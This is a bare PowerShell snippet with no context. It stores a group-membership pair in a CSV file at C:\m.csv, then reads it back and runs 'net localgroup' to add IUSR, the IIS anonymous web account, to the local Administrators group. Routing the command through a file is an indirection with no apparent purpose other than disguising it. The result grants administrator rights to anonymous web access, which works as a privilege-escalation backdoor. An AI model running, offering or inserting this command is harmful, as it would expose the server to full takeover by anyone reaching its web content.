[pscustomobject]@{ Group = 'Administrators'; Member = 'IUSR' } |
    Export-Csv C:\m.csv -NoTypeInformation
Import-Csv C:\m.csv | ForEach-Object { net localgroup $_.Group $_.Member /add }
